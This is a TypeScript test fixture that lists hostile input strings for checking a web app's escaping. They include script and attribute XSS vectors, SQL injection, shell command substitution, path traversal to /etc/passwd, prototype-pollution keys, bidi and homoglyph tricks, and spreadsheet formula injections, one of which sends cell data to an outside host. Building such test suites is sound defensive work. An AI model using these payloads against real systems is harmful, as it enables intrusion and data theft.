/**
 * Texts that an attacker or a foreign file may put where a text is expected. Each one that could run calls `__ran`,
 * which `tripwire.ts` defines in the page. The names appear in test titles.
 */
export const PAYLOADS = {
  'a script': '<script>window.__ran(1)</script>',
  'a script that closes ours': '</script></style></textarea></title><script>window.__ran(2)</script>',
  'a picture that fails': '<img src=x onerror=window.__ran(3)>',
  'a drawing that loads': '<svg onload=window.__ran(4)><a xlink:href="javascript:window.__ran(4)">x</a></svg>',
  'an attribute that is left': '" autofocus onfocus="window.__ran(5)" x="',
  'an attribute in single quotes': "' onmouseover='window.__ran(6)' x='",
  'an attribute in backticks': '` onclick=`window.__ran(7)` x=`',
  'a frame with a page in it': '<iframe srcdoc="<script>parent.__ran(8)</script>"></iframe>',
  'a page elsewhere': '<iframe src="https://example.invalid/"></iframe><img src="//example.invalid/pixel">',
  'a style sheet elsewhere':
    '<link rel=stylesheet href=//example.invalid/x.css><style>@import "//example.invalid";</style>',
  'a base elsewhere':
    '<base href="https://example.invalid/"><meta http-equiv=refresh content="0;url=//example.invalid">',
  'an open comment': '<!-- <!--[if gte IE 4]> --!><![CDATA[',
  'a javascript address': 'javascript:window.__ran(9)//',
  'a javascript address in disguise': ' java\tscript:window.__ran(10)',
  'a data address': 'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19yYW4oMTEpPC9zY3JpcHQ+',
  'a style that covers the page': 'x;position:fixed;inset:0;background:url(javascript:window.__ran(12));width:9999px',
  'markup already escaped': '&lt;b&gt;&amp;amp;&#x3c;script&#62;&quot;&nbsp;',
  'a mustache': '{{constructor.constructor("window.__ran(13)")()}}',
  'a template literal': '${window.__ran(14)}#{7*7}<%= 7*7 %>[[7*7]]',
  'a replacement pattern': "$& $1 $` $' $$ \\1 \\0",
  'a format string': '%s %d %n %c %o %% %x {0} {name}',
  'a path upwards': '../../../../etc/passwd..\\..\\windows\\win.ini',
  'a name that Windows keeps': 'CON.txt:stream|<>?*"NUL',
  SQL: "Robert'); DROP TABLE invoices;-- ' OR '1'='1",
  'a regular expression': '^(a+)+$[.*?{2,}(?<x>\\p{L})|\\b]',
  'a glob': '**/*.{js,ts}[!a-z]?~',
  'a shell': '`id`; $(id) && id | id > /dev/null # \\',
  'a prototype': '__proto__',
  'a constructor': 'constructor',
  'what every object has': 'toString',
  'a property of a property': 'hasOwnProperty.__proto__.polluted',
  'what a promise has': 'then',
  undefined: 'undefined',
  null: 'null',
  'not a number': 'NaN',
  'an object as text': '[object Object]',
  zero: '0',
  'a minus zero': '-0',
  'a large power': '1e999',
  'a formula': '=HYPERLINK("https://example.invalid/?"&A1,"Click")',
  'a formula behind spaces': '  =1+1',
  'a plus': "+cmd|' /C calc'!A0",
  'a minus': "-2+3+cmd|' /C calc'!A0",
  'an at': '@SUM(1+1)*cmd|',
  'a tab': '\t=1+1',
  'a carriage return': '\r=1+1',
  'a wide equals sign': '＝1+1',
  'commas and quotes': '",""\r\n"x",\'y\';\tz',
  'braces of JSON': '"},{"id":"INV-2024-001","x":["\\u0000\\"]}],"checksum":"',
  'percent escapes': '%00%0a%0d%3Cscript%3E%2e%2e%2f%E0%A4%A%',
  'an escape of a workbook': '_x0041__x000D__xD800_ _x005F_x0041_',
  'a null': 'nul\u0000l\u0000',
  'control characters': 'a\u0001\u0007\u0008\u000b\u000c\u001b[31mred\u001b[0m\u007f\u0085z',
  'line separators': 'one\u2028two\u2029three\nfour\r\nfive',
  'a byte order mark': '\ufeffmark\ufffe\uffff\ufdd0',
  'half a letter': 'a\ud800b\udc00c\udfff',
  'half a letter at the ends': '\udc00half\ud83d',
  'a letter beyond the plane': '\u{10ffff}\u{1f4a9}\u{20bb7}野家',
  'right to left': 'مرحبا 123 שלום (abc)',
  'a turned direction': '\u202etxt.exe\u202c \u2067evil\u2069 \u200fx\u200e',
  'open isolates': '\u2066\u2067\u2068\u202a\u202b\u202d\u202e',
  'nothing that is seen': '\u200b\u200c\u200d\u2060\u00ad\u180e\u3164',
  'tags that are not seen': 'flag\u{e0067}\u{e0062}\u{e007f}\u{e0001}',
  'a storm of marks': `Z${'\u0300\u0489\u0e49\u20dd'.repeat(250)}algo`,
  'marks on nothing': '\u0301\u0301\u0301\u093f',
  'one letter in two spellings': 'e\u0301\u00e9 \ufb01 ℌ ſ \u212b İıǅ ß',
  'letters that look alike': 'Аdmin раyраl',
  'a family': '👨‍👩‍👧‍👦 👩🏽‍🚀 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇮🇳 1️⃣ ❤️‍🔥',
  'many scripts': 'श्री क्षत्रिय ਪੰਜਾਬੀ தமிழ் 中文 ภาษาไทย မြန်မာ',
  'one long word': 'W'.repeat(3000),
  'a long word of an address': `https://example.invalid/${'a'.repeat(1500)}`,
  'much white space': ` \u00a0\u3000\u2003 spaced${' '.repeat(400)}out \t `,
} as const satisfies Readonly<Record<string, string>>;

export type PayloadName = keyof typeof PAYLOADS;

export const PAYLOAD_NAMES = Object.keys(PAYLOADS) as PayloadName[];

/**
 * A megabyte of words with a few letters of other scripts and combining marks: too long to try everywhere. (A text that
 * changes script or direction at every word would keep the browser laying out one input line for minutes.)
 */
export const A_MEGABYTE = `${'Ledger <b>=1</b> WWWWWWWWWWWWWWWWWWWWWWWWWWWWW '.repeat(200)}श्री 👍🏽 e\u0301 `
  .repeat(120)
  .slice(0, 999_999);

/**
 * The share of payloads for one of many places: every `places`-th, starting at `place`, so that all places together try
 * all payloads. The long form, `npm run hostile`, tries all payloads in each place.
 */
export function payloadsFor(place: number, places: number): readonly PayloadName[] {
  return isWhole ? PAYLOAD_NAMES : PAYLOAD_NAMES.filter((_, at) => at % places === place % places);
}

/** Whether this is the long form. */
export const isWhole: boolean = [import.meta.env, globalThis.process?.env].some(
  (env) => env?.['VITE_HOSTILE'] === 'whole',
);
